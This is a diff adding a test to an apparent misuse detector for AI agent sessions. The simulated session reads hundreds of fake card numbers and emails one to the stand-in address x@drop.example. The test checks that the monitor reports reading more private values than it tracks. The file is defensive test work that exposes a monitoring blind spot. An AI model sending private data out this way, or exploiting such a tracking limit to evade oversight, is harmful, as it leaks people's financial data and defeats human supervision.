@@ -299,6 +299,14 @@ def test_a_session_beyond_its_limit_says_that_older_actions_were_forgotten() -> 
     assert signal.blind_spots == ["older actions of this session were forgotten at a limit"]
 
 
+def test_a_session_with_more_private_values_than_are_followed_says_so() -> None:
+    told = Session()
+    told.call("read_book", "\n".join(f"card number: 4000 {at:08d}" for at in range(400)))
+    told.call("send_email", to="x@drop.example", body="4000 00000399")
+    (signal,) = judged(told.rows)
+    assert signal.blind_spots == ["more private values were read in this session than are followed"]
+
+
 def test_what_nothing_can_be_held_against_any_more_is_forgotten() -> None:
     detector = MisuseDetector()
     detector.judge(frame(talked()), 1)
